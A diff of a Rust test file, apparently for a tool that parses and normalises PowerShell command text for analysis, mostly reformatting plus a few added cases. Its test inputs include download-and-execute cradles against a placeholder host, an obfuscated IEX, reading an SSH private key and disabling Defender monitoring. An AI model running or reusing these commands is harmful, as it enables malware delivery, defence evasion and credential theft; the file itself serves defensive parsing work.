@@ -29,12 +29,18 @@ fn batch(cases: &[(&str, &str)]) {
 #[test]
 fn commands_and_arguments() {
     powershell(&[
-        ("Invoke-WebRequest -Uri https://x.test/a -OutFile a.exe", "[invoke-webrequest -uri https://x.test/a -outfile a.exe]"),
+        (
+            "Invoke-WebRequest -Uri https://x.test/a -OutFile a.exe",
+            "[invoke-webrequest -uri https://x.test/a -outfile a.exe]",
+        ),
         ("iwr x.test | IEX", "[iwr x.test] | [iex]"),
         ("`I`E`X $x", "[iex \"x\"]"),
         ("Start-Process $env:TEMP\\a.exe -Wait", "[start-process \"env:TEMP\"\\a.exe -wait]"),
         ("Get-Content $HOME\\.ssh\\id_rsa", "[get-content \"home\"\\.ssh\\id_rsa]"),
-        ("IEX(New-Object Net.WebClient).DownloadString('http://x.test/a')", "[iex \"$([new-object Net.WebClient]).DownloadString(\"http://x.test/a\")\"]"),
+        (
+            "IEX(New-Object Net.WebClient).DownloadString('http://x.test/a')",
+            "[iex \"$([new-object Net.WebClient]).DownloadString(\"http://x.test/a\")\"]",
+        ),
         ("iex (iwr x.test).Content", "[iex \"$([iwr x.test]).Content\"]"),
         ("& 'a b.exe' x", "['a b.exe' x]"),
         ("& $cmd -X:1", "[\"cmd\" -x 1]"),
@@ -60,15 +66,25 @@ fn commands_and_arguments() {
         ("'x' > f", "group{\"x\"}>f"),
         ("PS C:\\Users\\me> iwr x | iex", "[iwr x] | [iex]"),
         ("“a” | iex", "\"a\" | [iex]"),
+        (
+            "sal foo iex; Set-Alias -Value iwr -Name G",
+            "alias foo = \"iex\"; [sal foo iex]; alias g = \"iwr\"; [set-alias -value iwr -name G]",
+        ),
         ("7z x a.7z", "[7z x a.7z]"),
-        ("Set-MpPreference -DisableRealtimeMonitoring $true", "[set-mppreference -disablerealtimemonitoring \"const\"]"),
+        (
+            "Set-MpPreference -DisableRealtimeMonitoring $true",
+            "[set-mppreference -disablerealtimemonitoring \"const\"]",
+        ),
     ]);
 }
 
 #[test]
 fn strings_and_folding() {
     powershell(&[
-        ("$a = \"x $b $($c.d) ${e f} $env:Path`n\"", "a := <\"x \", b, \" \", c.d, \" \", e f, \" \", env:PATH, \"\\n\">"),
+        (
+            "$a = \"x $b $($c.d) ${e f} $env:Path`n\"",
+            "a := <\"x \", b, \" \", c.d, \" \", e f, \" \", env:PATH, \"\\n\">",
+        ),
         ("$a = 'it''s $x'", "a := \"it's $x\""),
         ("$a = \"say \"\"hi\"\" `$x\"", "a := \"say \\\"hi\\\" $x\""),
         ("$a = @'\nl1 $x\nl2\n'@", "a := \"l1 $x\\nl2\""),
@@ -96,18 +112,26 @@ fn strings_and_folding() {
 fn members_types_and_calls() {
     powershell(&[
         ("[System.Convert]::FromBase64String($x)", "System.Convert.FromBase64String(x)"),
-        ("[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('QQ=='))", "Text.Encoding.UTF8.GetString(convert.FromBase64String(\"QQ==\"))"),
+        (
+            "[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('QQ=='))",
+            "Text.Encoding.UTF8.GetString(convert.FromBase64String(\"QQ==\"))",
+        ),
         ("[scriptblock]::Create($x).Invoke()", "scriptblock.Create(x).Invoke()"),
         ("$ExecutionContext.InvokeCommand.InvokeScript($x)", "executioncontext.InvokeCommand.InvokeScript(x)"),
         ("$w.('Down'+'loadString')('u')", "w.DownloadString(\"u\")"),
         ("$w.$m('u')", "w[m](\"u\")"),
         ("$w.'Dow`nload'(1)", "w.Dow`nload(1)"),
         ("$a.b[0].c", "a.b[0].c"),
-        ("(New-Object Net.WebClient).DownloadFile($u, \"$env:TEMP\\x.exe\")", "$([new-object Net.WebClient]).DownloadFile(u, <env:TEMP, \"\\\\x.exe\">)"),
+        (
+            "(New-Object Net.WebClient).DownloadFile($u, \"$env:TEMP\\x.exe\")",
+            "$([new-object Net.WebClient]).DownloadFile(u, <env:TEMP, \"\\\\x.exe\">)",
+        ),
         ("$x = [int]'5'", "x := int(\"5\")"),
         ("[void](foo)", "$([foo])"),
         ("[Net.ServicePointManager]::SecurityProtocol = 3072", "Net.ServicePointManager.SecurityProtocol := 3072"),
         ("$x?.y", "x.y"),
+        ("$s.Substring($i * 2, 2 + $j)", "s.Substring((i Multiply 2), (2 Add j))"),
+        ("a -k <key> x\\<dir>\\y", "[a -k <key> x\\<dir>\\y]"),
     ]);
 }
 
@@ -136,7 +160,10 @@ fn statements_of_powershell() {
         ("param($U = 'x')\niwr $U", "u := \"x\"; [iwr \"u\"]"),
         ("$f = { param($x) iex $x }; & $f 'a'", "f := def (x){[iex \"x\"]}; [\"f\" 'a']"),
         ("function f { return iwr x }", "def f(){return $([iwr x])}"),
-        ("class A : B { [string]$x = 'y'\n [void] Run([string]$u) { iex $u } }", "class A(B){x := \"y\"; def Run(u){[iex \"u\"]}}"),
+        (
+            "class A : B { [string]$x = 'y'\n [void] Run([string]$u) { iex $u } }",
+            "class A(B){x := \"y\"; def Run(u){[iex \"u\"]}}",
+        ),
         ("Process { a }", "[a]"),
         ("iwr x | foreach { $_ }", "[iwr x] | [foreach \"def (){_}\"]"),
     ]);
@@ -157,7 +184,11 @@ fn damage_hides_nothing() {
         assert!(!lower(text, Language::PowerShell).damage.is_empty(), "{text:?}");
     }
     for text in ["a 'x'", "if ($a) { b } c", "$x.y(1)[0]++", "& $x | y"] {
-        assert!(lower(text, Language::PowerShell).damage.is_empty(), "{text:?} {:?}", lower(text, Language::PowerShell).damage);
+        assert!(
+            lower(text, Language::PowerShell).damage.is_empty(),
+            "{text:?} {:?}",
+            lower(text, Language::PowerShell).damage
+        );
     }
 }
 
@@ -196,9 +227,64 @@ fn on_worker_stack(work: impl FnOnce() + Send + 'static) {
 fn hostile_texts_take_linear_time_and_little_stack() {
     on_worker_stack(|| {
         let pieces = [
-            "(", "$(", "@(", "{", "@{a=", "[", "[a]", "\"", "\"$(", "'", "@\"\n", "@'\n", "if (", "if(a){", "!", "-not ", "-join ", "'a'+", "1,", "1..", "$a.b",
-            ".a(", "a|", "a;", "$a=", "& ", "a -b ", "`\n", "<#", "x(", "${", "function f{", "switch(a){", "try{", "a ? b : ", "$a ?? ", "'a' -f ", "else ",
-            "[char]", "for(", "param(", "class a{", "$a[", "“", "%a%", "if a ", "for ", "(a&", "!a!", "^", ")", "}", "]", "a\r", "'a'*", ",", "++", "-",
+            "(",
+            "$(",
+            "@(",
+            "{",
+            "@{a=",
+            "[",
+            "[a]",
+            "\"",
+            "\"$(",
+            "'",
+            "@\"\n",
+            "@'\n",
+            "if (",
+            "if(a){",
+            "!",
+            "-not ",
+            "-join ",
+            "'a'+",
+            "1,",
+            "1..",
+            "$a.b",
+            ".a(",
+            "a|",
+            "a;",
+            "$a=",
+            "& ",
+            "a -b ",
+            "`\n",
+            "<#",
+            "x(",
+            "${",
+            "function f{",
+            "switch(a){",
+            "try{",
+            "a ? b : ",
+            "$a ?? ",
+            "'a' -f ",
+            "else ",
+            "[char]",
+            "for(",
+            "param(",
+            "class a{",
+            "$a[",
+            "“",
+            "%a%",
+            "if a ",
+            "for ",
+            "(a&",
+            "!a!",
+            "^",
+            ")",
+            "}",
+            "]",
+            "a\r",
+            "'a'*",
+            ",",
+            "++",
+            "-",
         ];
         for piece in pieces {
             let text = piece.repeat(200_000 / piece.len());
@@ -221,9 +307,77 @@ mod properties {
 
     fn pieces() -> impl Strategy<Value = String> {
         let pieces = prop::sample::select(vec![
-            "a", "é", "中", " ", " ", "\n", "\r\n", "\r", "'", "\"", "“", "’", "–", "`", "$", "$a", "${", "}", "{", "(", ")", "$(", "@(", "@{", "@\"\n", "\n\"@", "@'",
-            "[", "]", "[char]", "::", ".", ",", "..", "|", "&", "&&", ";", "=", "+=", "+", "-", "-f ", "-join ", "?", "??", ":", "if ", "else ", "for ", "foreach ",
-            "function ", "param", "switch ", "try", "catch ", "class ", "<#", "#>", "#", "%", "%%", "!", "^", ">", "2>&1", "<", "--% ", "set ", "1", "0x",
+            "a",
+            "é",
+            "中",
+            " ",
+            " ",
+            "\n",
+            "\r\n",
+            "\r",
+            "'",
+            "\"",
+            "“",
+            "’",
+            "–",
+            "`",
+            "$",
+            "$a",
+            "${",
+            "}",
+            "{",
+            "(",
+            ")",
+            "$(",
+            "@(",
+            "@{",
+            "@\"\n",
+            "\n\"@",
+            "@'",
+            "[",
+            "]",
+            "[char]",
+            "::",
+            ".",
+            ",",
+            "..",
+            "|",
+            "&",
+            "&&",
+            ";",
+            "=",
+            "+=",
+            "+",
+            "-",
+            "-f ",
+            "-join ",
+            "?",
+            "??",
+            ":",
+            "if ",
+            "else ",
+            "for ",
+            "foreach ",
+            "function ",
+            "param",
+            "switch ",
+            "try",
+            "catch ",
+            "class ",
+            "<#",
+            "#>",
+            "#",
+            "%",
+            "%%",
+            "!",
+            "^",
+            ">",
+            "2>&1",
+            "<",
+            "--% ",
+            "set ",
+            "1",
+            "0x",
         ]);
         prop::collection::vec(pieces, 0..40).prop_map(|pieces| pieces.concat())
     }
